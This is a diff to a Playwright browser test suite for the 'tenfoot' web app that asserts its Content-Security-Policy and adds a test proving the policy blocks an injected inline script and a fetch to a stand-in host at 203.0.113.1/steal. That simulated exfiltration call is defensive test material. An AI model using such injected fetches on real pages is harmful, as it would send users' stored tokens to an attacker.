@@ -13,8 +13,8 @@ import os from 'node:os';
 import path from 'node:path';
 import { chromium } from 'playwright-core';
 import {
-  CHROMIUM, CHROMIUM_ARGS, FIRST_FRAME_TIMEOUT, REMOTE_BACK, SHOTS, STEP_TIMEOUT, TENFOOTD_BIN, TENFOOT_WEB,
-  assertAnnounced, expectedFailure, press, problems, startServer, state, waitFor,
+  CHROMIUM, CHROMIUM_ARGS, CSP_VIOLATION, FIRST_FRAME_TIMEOUT, REMOTE_BACK, SHOTS, STEP_TIMEOUT, TENFOOTD_BIN, TENFOOT_WEB,
+  assertAnnounced, expectedFailure, press, problems, reportPolicyViolations, startServer, state, waitFor,
 } from './harness.mjs';
 
 describe('tenfoot in the browser', () => {
@@ -46,6 +46,7 @@ describe('tenfoot in the browser', () => {
       viewport: { width: 1280, height: 720 },
       args: CHROMIUM_ARGS,
     });
+    await reportPolicyViolations(context);
     page = context.pages()[0] ?? await context.newPage();
     page.on('pageerror', (err) => problems.push(`page error: ${err.stack || err}`));
     page.on('console', (msg) => {
@@ -87,6 +88,12 @@ describe('tenfoot in the browser', () => {
     const doc = await page.goto(server.url, { waitUntil: 'domcontentloaded' });
     assert.equal(doc.status(), 200);
     assert.equal(await page.title(), 'tenfoot');
+    // The app runs under this policy; a violation would be a console error, and
+    // the last step checks there was none.
+    const csp = (await doc.allHeaders())['content-security-policy'] ?? '';
+    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval';/);
+    assert.match(csp, /frame-ancestors 'none'/);
+    assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'/);
     await screenshot('00-loading');
 
     wasmResponse = await wasm;
@@ -377,6 +384,36 @@ describe('tenfoot in the browser', () => {
       }
     });
   }
+
+  // The token is in localStorage: the policy is what keeps a script that got into
+  // the page from running, or from fetching the token to another site.
+  it('refuses an injected inline script and a fetch to another site', async () => {
+    const p = await context.newPage();
+    const refused = [];
+    const bothReported = new Promise((resolve) => {
+      p.on('console', (msg) => {
+        if (msg.text().startsWith(CSP_VIOLATION) && refused.push(msg.text()) === 2) resolve();
+      });
+    });
+    try {
+      await p.goto(server.url, { waitUntil: 'domcontentloaded' });
+      const ran = await p.evaluate(async () => {
+        const s = document.createElement('script');
+        s.textContent = 'window.injected = true';
+        document.head.append(s);
+        const fetched = await fetch('http://203.0.113.1/steal').then(() => true, () => false);
+        return { script: window.injected === true, fetched };
+      });
+      assert.deepEqual(ran, { script: false, fetched: false });
+      await Promise.race([bothReported, new Promise((_, reject) => {
+        setTimeout(() => reject(new Error(`reported only ${JSON.stringify(refused)}`)), STEP_TIMEOUT).unref();
+      })]);
+      assert.match(refused[0], /script-src-elem refused inline/);
+      assert.match(refused[1], /connect-src refused http:\/\/203\.0\.113\.1\/steal/);
+    } finally {
+      await p.close();
+    }
+  });
 
   it('logged no page errors and no console errors', () => {
     assert.deepEqual(problems, []);
